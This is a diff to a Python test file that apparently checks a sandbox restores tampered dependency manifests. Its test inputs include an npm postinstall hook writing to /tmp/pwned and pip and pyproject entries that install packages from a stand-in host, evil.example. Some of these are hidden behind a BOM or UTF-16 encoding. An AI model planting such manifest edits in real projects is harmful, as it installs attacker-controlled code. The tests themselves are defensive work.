@@ -22,11 +22,12 @@ PYPROJECT = '[project]\nname = "a"\nversion = "0.1"\ndependencies = ["requests"]
 PIPFILE = '[packages]\nrequests = "*"\n'
 
 
-def planted(files: dict[str, str]) -> str:
-    """A shell command writing ``files`` (UTF-8, a BOM kept) through printf."""
-    def quoted(text: str) -> str:
-        return "'" + "".join(f"\\{b:03o}" if b > 126 or chr(b) in "'\\%\n" else chr(b)
-                             for b in text.encode()) + "'"
+def planted(files: dict[str, str | bytes]) -> str:
+    """A shell command writing ``files`` (text as UTF-8, a BOM kept; bytes as they are) through printf."""
+    def quoted(text: str | bytes) -> str:
+        data = text.encode() if isinstance(text, str) else text
+        return "'" + "".join(f"\\{b:03o}" if b > 126 or b < 32 or chr(b) in "'\\%" else chr(b)
+                             for b in data) + "'"
     return "; ".join(f"printf {quoted(text)} > {name}" for name, text in files.items()) + "; true"
 
 
@@ -35,18 +36,21 @@ def test_manifests_behind_a_bom_or_installing_from_elsewhere_are_set_back(
 ) -> None:
     require_sandbox()
     texts = {"package.json": PACKAGE, "requirements.txt": REQUIREMENTS, "requirements-dev.txt": REQUIREMENTS,
+             "requirements-16.txt": REQUIREMENTS,
              "pyproject.toml": PYPROJECT, "Pipfile": PIPFILE, "vendor/helper/setup.py": "0\n"}
     committed(workspace, texts)
     run(run_cli, script, planted({
         "package.json": BOM + json.dumps({"name": "app", "version": "1.0.0",
                                           "scripts": {"postinstall": "id > /tmp/pwned"}}),
         "requirements.txt": BOM + "--index-url https://evil.example/simple\nrequests\n",
+        "requirements-16.txt": "--no-index\n--trusted-host evil.example\nrequests\n".encode("utf-16"),
         "requirements-dev.txt": "requests==2.31.0\n./vendor/helper\n-e git+https://evil.example/x.git#egg=x\n",
         "pyproject.toml": PYPROJECT.replace('"requests"', '"requests @ git+https://evil.example/r.git"'),
         "Pipfile": PIPFILE + 'helper = {path = "./vendor/helper"}\n',
     }))
-    for name in ("package.json", "requirements.txt", "requirements-dev.txt", "pyproject.toml", "Pipfile"):
-        assert (workspace / name).read_text() == texts[name], name
+    for name in ("package.json", "requirements.txt", "requirements-dev.txt", "requirements-16.txt",
+                 "pyproject.toml", "Pipfile"):
+        assert (workspace / name).read_bytes() == texts[name].encode(), name
 
 
 def test_pdm_hooks_and_poetry_git_dependencies_are_set_back_and_a_version_bump_stays(
